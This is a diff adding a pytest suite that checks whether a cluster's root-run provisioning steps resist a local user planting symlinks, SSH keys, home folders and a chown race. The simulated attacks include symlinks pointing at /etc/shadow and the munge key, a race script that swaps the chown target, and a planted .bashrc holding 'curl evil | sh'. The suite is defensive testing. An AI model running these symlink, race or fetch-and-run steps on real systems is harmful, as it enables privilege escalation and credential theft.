@@ -1,0 +1,235 @@
+"""Issue 17, item 3: the root-run lifecycle steps refuse what a cluster user plants.
+
+Each test builds a fake controller (real ``chown``, real ``setpriv``), lets ``bob`` (uid 2002, an
+ordinary cluster user) plant links, folders and keys the way a careful attacker would, runs the
+steps, and checks that nothing was leaked to him, nothing he planted was adopted for another user,
+and the run repaired the place with a log line. ``/fsx`` is 1777, as on a new FSx for Lustre.
+"""
+
+from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from tests.lifecycle.hyperpod_sandbox import CONTROLLER_IP, Sandbox
+
+ALICE, BOB, UBUNTU = 2001, 2002, 1000
+SHADOW = "root:$6$SECRET-SHADOW-HASH:19000:0:99999:7:::\n"
+MUNGE = "SECRET-MUNGE-KEY-0123456789\n"
+BOB_KEY = "ssh-ed25519 AAAAbobsplantedkey bob@evil\n"
+
+
+def new_node(tmp_path: Path) -> Sandbox:
+    sandbox = Sandbox(tmp_path, ips=CONTROLLER_IP)
+    root = sandbox.root
+    (root / "fsx").mkdir(mode=0o755)
+    (root / "fsx").chmod(0o1777)  # a new FSx for Lustre: world-writable and sticky
+    for path, text in (("etc/shadow", SHADOW), ("etc/munge/munge.key", MUNGE)):
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).write_text(text)
+        (root / path).chmod(0o600)
+    (root / "etc/sudoers.d").mkdir(mode=0o750)
+    return sandbox
+
+
+def run_ok(sandbox: Sandbox, *steps: str) -> str:
+    result = sandbox.run("on_create.sh", *steps)
+    assert result.returncode == 0, result.stderr[-3000:]
+    return result.stdout + result.stderr
+
+
+def bob(sandbox: Sandbox, script: str) -> None:
+    """Run a shell script as bob, in the node's root folder."""
+    result = sandbox.as_user(BOB, "bash", "-c", f"set -e; cd {sandbox.root}; {script}")
+    assert result.returncode == 0, result.stderr
+
+
+def files_of(sandbox: Sandbox, uid: int) -> list[Path]:
+    return [p for p in sandbox.root.rglob("*") if p.lstat().st_uid == uid and p.is_file() and not p.is_symlink()]
+
+
+def assert_nothing_leaked(sandbox: Sandbox) -> None:
+    """No file a user owns holds the shadow or munge secrets; the secrets are untouched and root's."""
+    for uid in (ALICE, BOB, UBUNTU):
+        for path in files_of(sandbox, uid):
+            text = path.read_text(errors="replace")
+            assert "SECRET" not in text, f"{path} (uid {uid}) holds a secret"
+    for path, text in (("etc/shadow", SHADOW), ("etc/munge/munge.key", MUNGE)):
+        info = (sandbox.root / path).stat()
+        assert (sandbox.root / path).read_text() == text
+        assert (info.st_uid, stat.S_IMODE(info.st_mode)) == (0, 0o600)
+
+
+def owner_mode(path: Path) -> tuple[int, int]:
+    info = path.lstat()
+    return info.st_uid, stat.S_IMODE(info.st_mode)
+
+
+# --- attacks after the first run (homes exist) -------------------------------------------------
+
+
+@pytest.fixture
+def provisioned(tmp_path: Path) -> Sandbox:
+    sandbox = new_node(tmp_path)
+    run_ok(sandbox)
+    return sandbox
+
+
+def test_authorized_keys_linked_to_shadow_is_replaced_not_followed(provisioned: Sandbox) -> None:
+    sandbox = provisioned
+    bob(sandbox, f"ln -sfn {sandbox.root}/etc/shadow fsx/home/bob/.ssh/authorized_keys")
+    log = run_ok(sandbox, "ssh_keys")
+    keys = sandbox.root / "fsx/home/bob/.ssh/authorized_keys"
+    assert not keys.is_symlink()
+    assert keys.read_text() == sandbox.read("/fsx/.mlcluster/ssh/bob/id_ed25519.pub")
+    assert owner_mode(keys) == (BOB, 0o600)
+    assert "authorized_keys was a link; replaced it with a file" in log
+    assert_nothing_leaked(sandbox)
+
+
+def test_private_key_linked_to_the_munge_key_is_replaced_not_followed(provisioned: Sandbox) -> None:
+    sandbox = provisioned
+    bob(sandbox, f"ln -sfn {sandbox.root}/etc/munge/munge.key fsx/home/bob/.ssh/id_ed25519")
+    run_ok(sandbox, "ssh_keys")
+    key = sandbox.root / "fsx/home/bob/.ssh/id_ed25519"
+    assert not key.is_symlink()
+    assert key.read_text() == sandbox.read("/fsx/.mlcluster/ssh/bob/id_ed25519")
+    assert_nothing_leaked(sandbox)
+
+
+def test_ssh_folder_linked_to_a_system_folder_is_moved_aside(provisioned: Sandbox) -> None:
+    sandbox = provisioned
+    bob(sandbox, f"rm -rf fsx/home/bob/.ssh && ln -s {sandbox.root}/etc/sudoers.d fsx/home/bob/.ssh")
+    log = run_ok(sandbox, "ssh_keys")
+    assert list((sandbox.root / "etc/sudoers.d").iterdir()) == []  # root created nothing there
+    ssh = sandbox.root / "fsx/home/bob/.ssh"
+    assert not ssh.is_symlink()
+    assert owner_mode(ssh) == (BOB, 0o700)
+    assert "was a link or a file; moved it aside" in log
+    assert_nothing_leaked(sandbox)
+
+
+def test_bob_cannot_plant_in_the_key_store(provisioned: Sandbox) -> None:
+    sandbox = provisioned
+    result = sandbox.as_user(
+        BOB, "ln", "-s", f"{sandbox.root}/etc/munge/munge.key", f"{sandbox.root}/fsx/.mlcluster/ssh/x"
+    )
+    assert result.returncode != 0
+    assert owner_mode(sandbox.root / "fsx/.mlcluster/ssh") == (0, 0o700)
+    assert owner_mode(sandbox.root / "fsx/.mlcluster/ssh/alice") == (0, 0o700)
+
+
+# --- attacks before the first run (on a fresh, world-writable /fsx) -------------------------------
+
+
+def test_key_store_entry_linked_to_the_munge_key_before_the_first_run(tmp_path: Path) -> None:
+    sandbox = new_node(tmp_path)
+    munge = sandbox.root / "etc/munge/munge.key"
+    bob(sandbox, f"mkdir -p fsx/.mlcluster/ssh/bob && ln -s {munge} fsx/.mlcluster/ssh/bob/id_ed25519")
+    bob(sandbox, f"ln -s {munge}.pub fsx/.mlcluster/ssh/bob/id_ed25519.pub")
+    log = run_ok(sandbox)
+    assert "fsx/.mlcluster is owned by uid 2002, not root; moved it aside" in log
+    assert owner_mode(sandbox.root / "fsx/.mlcluster") == (0, 0o755)
+    assert owner_mode(sandbox.root / "fsx/.mlcluster/ssh/bob") == (0, 0o700)
+    assert "FAKE PRIVATE KEY bob@mlcluster" in sandbox.read("/fsx/home/bob/.ssh/id_ed25519")
+    assert_nothing_leaked(sandbox)
+
+
+def test_a_key_store_entry_for_ubuntu_planted_before_the_first_run_is_not_authorized(tmp_path: Path) -> None:
+    sandbox = new_node(tmp_path)
+    bob(
+        sandbox,
+        "mkdir -p fsx/.mlcluster/ssh/ubuntu && "
+        f"printf 'bob private\\n' >fsx/.mlcluster/ssh/ubuntu/id_ed25519 && "
+        f"printf '{BOB_KEY.strip()}\\n' >fsx/.mlcluster/ssh/ubuntu/id_ed25519.pub",
+    )
+    run_ok(sandbox)
+    for user in ("ubuntu", "alice", "bob"):
+        assert "bobsplantedkey" not in sandbox.read(f"/fsx/home/{user}/.ssh/authorized_keys")
+    assert sandbox.read("/fsx/home/ubuntu/.ssh/authorized_keys") == sandbox.read(
+        "/fsx/.mlcluster/ssh/ubuntu/id_ed25519.pub"
+    )
+    assert "ubuntu@mlcluster" in sandbox.read("/fsx/home/ubuntu/.ssh/authorized_keys")
+
+
+def test_a_home_pre_created_under_the_world_writable_root_is_not_adopted(tmp_path: Path) -> None:
+    sandbox = new_node(tmp_path)
+    bob(sandbox, "mkdir -p fsx/home/alice && echo 'curl evil | sh' >fsx/home/alice/.bashrc && chmod 777 fsx/home/alice")
+    log = run_ok(sandbox)
+    assert "fsx/home is owned by uid 2002, not root; moved it aside" in log
+    assert owner_mode(sandbox.root / "fsx/home") == (0, 0o755)
+    home = sandbox.root / "fsx/home/alice"
+    assert owner_mode(home) == (ALICE, 0o750)
+    assert (home / ".bashrc").read_text() == "# skel bashrc\n"
+    assert all(p.lstat().st_uid == ALICE for p in home.rglob("*"))
+    assert_nothing_leaked(sandbox)
+
+
+def test_a_home_that_is_a_link_or_someone_elses_is_moved_aside_on_a_rerun(provisioned: Sandbox) -> None:
+    sandbox = provisioned
+    home = sandbox.root / "fsx/home/alice"
+    # Root-owned parent: only root could have done this (an old version, an operator); the run repairs it.
+    home.rename(sandbox.root / "fsx/home/alice.old")
+    home.symlink_to(sandbox.root / "etc")
+    log = run_ok(sandbox, "homes")
+    assert "fsx/home/alice is a link; moved it aside" in log
+    assert owner_mode(home) == (ALICE, 0o750)
+    (sandbox.root / "fsx/home/bob.x").mkdir()
+    os.chown(sandbox.root / "fsx/home/bob.x", BOB, BOB)
+    (sandbox.root / "fsx/home/bob").rename(sandbox.root / "fsx/home/bob.old")
+    (sandbox.root / "fsx/home/bob.x").rename(sandbox.root / "fsx/home/bob")
+    os.chown(sandbox.root / "fsx/home/bob", ALICE, ALICE)
+    log = run_ok(sandbox, "homes")
+    assert "fsx/home/bob is owned by uid 2001, not bob (2002); moved it aside" in log
+    assert owner_mode(sandbox.root / "fsx/home/bob") == (BOB, 0o750)
+
+
+def test_enroot_folders_pre_created_under_a_world_writable_root_are_not_adopted(tmp_path: Path) -> None:
+    sandbox = new_node(tmp_path)
+    nvme = sandbox.root / "opt/dlami/nvme"
+    nvme.chmod(0o1777)  # a scratch volume left world-writable
+    bob(sandbox, "mkdir -p opt/dlami/nvme/enroot/data/user-2001/evil && chmod -R 777 opt/dlami/nvme/enroot")
+    log = run_ok(sandbox)
+    assert "enroot is owned by uid 2002, not root; moved it aside" in log
+    for folder in ("runtime", "cache", "data", "tmp"):
+        assert owner_mode(nvme / f"enroot/{folder}") == (0, 0o755)
+        mine = nvme / f"enroot/{folder}/user-{ALICE}"
+        assert owner_mode(mine) == (ALICE, 0o700)
+        assert list(mine.iterdir()) == []
+    # And bob cannot make a folder for alice there afterwards.
+    result = sandbox.as_user(BOB, "mkdir", str(nvme / "enroot/data/user-9999"))
+    assert result.returncode != 0
+
+
+# --- the swapped temporary file before chown ---------------------------------------------------
+
+SWAPPING_CHOWN = r"""#!/bin/bash
+# Before each real chown, bob tries to swap its target for a link to /etc/shadow.
+for target in "$@"; do
+  case $target in -* | *:*) continue ;; esac
+  setpriv --reuid=2002 --regid=2002 --clear-groups -- \
+    bash -c 'ln -sfn "$1" "$2.bob" 2>/dev/null && mv -f "$2.bob" "$2" 2>/dev/null && echo "swapped $2"' _ \
+    "$MLC_ROOT/etc/shadow" "$target" >>"$STUB_STATE/swaps.log" || true
+  echo "$target" >>"$STUB_STATE/chowned.log"
+done
+exec /usr/bin/chown "$@"
+"""
+
+
+def test_root_chowns_only_where_no_user_can_swap_the_target(tmp_path: Path) -> None:
+    sandbox = new_node(tmp_path)
+    wrapper = sandbox.bin / "chown"
+    wrapper.write_text(SWAPPING_CHOWN)
+    wrapper.chmod(0o755)
+    run_ok(sandbox)
+    chowned = (sandbox.state / "chowned.log").read_text().splitlines()
+    assert len(chowned) >= 12  # homes, enroot and podman folders of three users
+    swaps = sandbox.state / "swaps.log"
+    assert not swaps.exists() or swaps.read_text() == ""
+    for target in chowned:
+        parent = Path(target).parent.lstat()
+        assert parent.st_uid == 0 and not stat.S_IMODE(parent.st_mode) & 0o022, target
+    assert_nothing_leaked(sandbox)
